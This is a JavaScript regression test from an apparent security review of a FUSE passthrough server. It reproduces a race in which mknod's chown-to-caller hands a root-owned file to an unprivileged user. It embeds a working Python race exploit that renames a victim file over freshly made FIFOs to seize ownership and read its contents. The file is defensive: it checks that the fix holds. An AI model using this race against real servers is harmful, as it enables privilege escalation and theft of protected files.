// REVIEW (an attacker's reproducer from the security review of the descriptor
// core; failed before the fix named below, passes since).
//
// mknod/mkdir/symlink with allow_other: the server makes the name as root
// (mknodat/mkdirat/symlinkat on the pool), then opens *whatever is at that
// name now* (PassthroughBackend.made -> pin) and chowns it to the caller
// (own). A user who can also write SRC renames someone else's file over the
// fresh name in that window and becomes its owner: here a root-owned 0600
// file in a shared (0777, not sticky) directory, as on any group share.
//
// Fix suggested (and done): create as the caller (setfsuid/setfsgid on the worker thread
// around the *at call, as virtiofsd/passthrough_ll do) instead of chown after
// a second lookup; at least chown only an inode whose type is the one asked
// for and whose owner is still the server's euid.
import { chmod, lstat, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import test from 'ava';
import { canMount, mountFixture } from '../helpers/mount-fixture.js';
import { run } from '../helpers/run.js';

const gate = await canMount('fuse');
const serial = gate.ok ? test.serial : test.serial.skip;
const why = gate.ok ? '' : ` (skipped: ${gate.reason})`;
const UID = 64231;

// Thread A makes FIFOs through the mount, one fresh name each; thread B
// (direct on SRC) waits for each to appear and renames the victim over it at
// once. After each round A puts the victim back under its own name (B paused),
// so nothing is lost; it stops as soon as the victim is its own.
const ATTACK = String.raw`
import os, sys, stat, threading, time
mnt, src, uid, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
victim = os.path.join(src, 'victim')
lock = threading.Lock()
cur = [None]; stop = [False]
def swapper():
    while not stop[0]:
        name = cur[0]
        if name is None: continue
        p = os.path.join(src, name)
        try:
            if stat.S_ISFIFO(os.lstat(p).st_mode):
                with lock:
                    if cur[0] == name: os.rename(victim, p); cur[0] = None
        except OSError: pass
t = threading.Thread(target=swapper, daemon=True); t.start()
end = time.time() + secs; i = 0
while time.time() < end:
    i += 1; name = 'x%d' % i
    cur[0] = name
    try: os.mkfifo(os.path.join(mnt, name))
    except OSError: pass
    with lock:
        cur[0] = None
        p = os.path.join(src, name)
        try:
            st = os.lstat(p)
            if stat.S_ISREG(st.st_mode): os.rename(p, victim)
            else: os.unlink(p)
        except OSError: pass
    if os.lstat(victim).st_uid == uid:
        print('WON after %d tries: %s' % (i, open(victim).read())); break
else:
    print('lost %d tries' % i)
stop[0] = True
`;

serial(`review: a user who also writes SRC cannot take ownership of a file by racing mknod's chown-to-caller${why}`, async (t) => {
  const fx = await mountFixture(t, 'fuse', { options: ['allow_other'] });
  await chmod(fx.dir, 0o755);
  const shared = join(fx.src, 'shared');
  await mkdir(shared);
  await chmod(shared, 0o777);
  await writeFile(join(shared, 'victim'), 'SECRET of root');
  await chmod(join(shared, 'victim'), 0o600);
  const r = await run('setpriv', [`--reuid=${UID}`, `--regid=${UID}`, '--clear-groups', '/usr/bin/python3', '-c', ATTACK, join(fx.mnt, 'shared'), shared, String(UID), '40'], { timeoutMs: 90_000 });
  t.log(r.stdout.trim(), r.stderr.trim());
  const st = await lstat(join(shared, 'victim'));
  t.is(st.uid, 0, `the victim file must stay root's (attacker: ${r.stdout.trim()})`);
  t.is(await readFile(join(shared, 'victim'), 'utf8'), 'SECRET of root');
});
